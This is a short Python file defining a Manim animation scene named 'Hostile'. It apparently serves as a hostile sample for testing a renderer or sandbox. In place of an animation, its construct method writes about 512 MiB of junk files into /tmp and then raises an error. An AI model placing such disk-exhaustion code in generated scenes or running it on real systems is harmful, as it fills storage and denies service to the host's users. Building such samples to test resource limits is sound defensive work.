from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        for i in range(64):
            open("/tmp/fill-%d" % i, "wb").write(b"z" * (8 << 20))
        raise RuntimeError("filled /tmp")
        self.play(Create(Circle()), run_time=0.1)
